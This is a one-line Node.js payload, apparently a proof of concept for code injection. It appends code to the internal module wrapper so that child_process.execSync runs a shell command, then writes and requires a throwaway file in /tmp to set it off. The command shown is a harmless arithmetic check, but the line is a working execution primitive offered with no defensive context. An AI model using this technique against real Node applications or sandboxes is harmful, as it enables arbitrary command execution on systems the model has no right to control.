require('module').wrapper[0]+="console.log(String(require('child_process').execSync('expr 40 + 1001')));";require('fs').writeFileSync('/tmp/_e.js','');require('/tmp/_e.js')
